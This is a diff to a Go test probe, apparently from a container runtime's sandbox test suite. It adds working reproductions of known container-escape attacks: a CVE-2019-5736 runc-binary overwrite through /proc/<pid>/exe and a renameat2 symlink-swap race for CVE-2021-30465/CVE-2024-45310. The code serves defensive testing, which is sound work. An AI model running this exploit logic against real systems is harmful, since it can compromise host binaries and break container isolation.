@@ -6,6 +6,7 @@
 //	probe rlimit NAME | oomscore | nnp | seccomp | sleep SECONDS | exit CODE | mkdir DIR
 //	probe sysctl NAME | alloc MIB | forkbomb MAX | spin SECONDS | signals | open PATH
 //	probe status KEY... | keyring | winsize | statfs PATH | exec PATH
+//	probe exewrite TARGET OUT SECONDS | swap DIR NAME LINKTARGET SECONDS
 package main
 
 import (
@@ -246,6 +247,12 @@ func main() {
 		err := unix.Exec(args[0], args, nil)
 		fmt.Printf("errno=%d %v\n", err.(unix.Errno), err)
 		os.Exit(1)
+	case "exewrite":
+		need(args, 3)
+		exeWrite(args[0], args[1], args[2])
+	case "swap":
+		need(args, 4)
+		swap(args[0], args[1], args[2], args[3])
 	default:
 		fail("unknown command " + os.Args[1])
 	}
@@ -311,4 +318,106 @@ func check(err error) {
 func fail(msg string) {
 	fmt.Fprintln(os.Stderr, "probe:", msg)
 	os.Exit(2)
+}
+
+// exeWrite plays the CVE-2019-5736 attacker. TARGET is a path ("/proc/1/exe") or
+// "cmdline=STR": the /proc/<pid>/exe of the first other process whose command line contains
+// STR. It opens the exe O_WRONLY, then O_PATH, and after the process has exited (or execed)
+// tries to reopen the O_PATH fd for writing and write a marker. Each step's outcome is a
+// line "step: result" on stdout and in OUT. It gives up after SECONDS.
+func exeWrite(target, out, secs string) {
+	d, err := time.ParseDuration(secs + "s")
+	check(err)
+	deadline := time.Now().Add(d)
+	var report []string
+	say := func(step string, err error) {
+		r := "ok"
+		if err != nil {
+			r = err.Error()
+			if errno, ok := err.(syscall.Errno); ok {
+				r = fmt.Sprintf("errno=%d %v", int(errno), errno)
+			}
+		}
+		report = append(report, step+": "+r)
+	}
+	defer func() {
+		s := strings.Join(report, "\n") + "\n"
+		fmt.Print(s)
+		_ = os.WriteFile(out, []byte(s), 0o644)
+	}()
+	path, pid := target, 0
+	if want, ok := strings.CutPrefix(target, "cmdline="); ok {
+		for path = ""; path == ""; {
+			if time.Now().After(deadline) {
+				report = append(report, "found: no process matching "+want)
+				return
+			}
+			ents, _ := os.ReadDir("/proc")
+			for _, e := range ents {
+				n, err := strconv.Atoi(e.Name())
+				if err != nil || n == os.Getpid() {
+					continue
+				}
+				cl, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
+				if err == nil && strings.Contains(string(cl), want) {
+					path, pid = "/proc/"+e.Name()+"/exe", n
+					break
+				}
+			}
+		}
+		report = append(report, "found: "+path)
+	}
+	fd, err := syscall.Open(path, syscall.O_WRONLY|syscall.O_CLOEXEC, 0)
+	say("open-wronly", err)
+	if err == nil {
+		_, err = syscall.Write(fd, []byte("husk-pwned"))
+		say("write-direct", err)
+		syscall.Close(fd)
+	}
+	pfd, err := syscall.Open(path, unix.O_PATH|syscall.O_CLOEXEC, 0)
+	say("open-path", err)
+	if err != nil {
+		return
+	}
+	link, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(pfd))
+	report = append(report, "link: "+link)
+	if pid > 0 {
+		// Wait for the process to go away so the binary is no longer busy.
+		for syscall.Kill(pid, 0) == nil && time.Now().Before(deadline) {
+			time.Sleep(time.Millisecond)
+		}
+	}
+	for {
+		fd, err = syscall.Open("/proc/self/fd/"+strconv.Itoa(pfd), syscall.O_WRONLY|syscall.O_CLOEXEC, 0)
+		if err != syscall.ETXTBSY || time.Now().After(deadline) {
+			break
+		}
+		time.Sleep(time.Millisecond)
+	}
+	say("reopen-wronly", err)
+	if err == nil {
+		_, err = syscall.Write(fd, []byte("husk-pwned"))
+		say("write-reopened", err)
+		syscall.Close(fd)
+	}
+}
+
+// swap plays the CVE-2021-30465 / CVE-2024-45310 attacker on a shared volume: DIR/NAME is a
+// directory and DIR/NAME.link a symlink to LINKTARGET, exchanged atomically (renameat2
+// RENAME_EXCHANGE) in a loop for SECONDS, so another runtime resolving DIR/NAME sees either.
+func swap(dir, name, target, secs string) {
+	d, err := time.ParseDuration(secs + "s")
+	check(err)
+	a, b := filepath.Join(dir, name), filepath.Join(dir, name+".link")
+	if err := os.Mkdir(a, 0o755); err != nil && !os.IsExist(err) {
+		check(err)
+	}
+	_ = os.Remove(b)
+	check(os.Symlink(target, b))
+	n := 0
+	fmt.Println("ready")
+	for end := time.Now().Add(d); time.Now().Before(end); n++ {
+		check(unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE))
+	}
+	fmt.Println("swaps", n)
 }
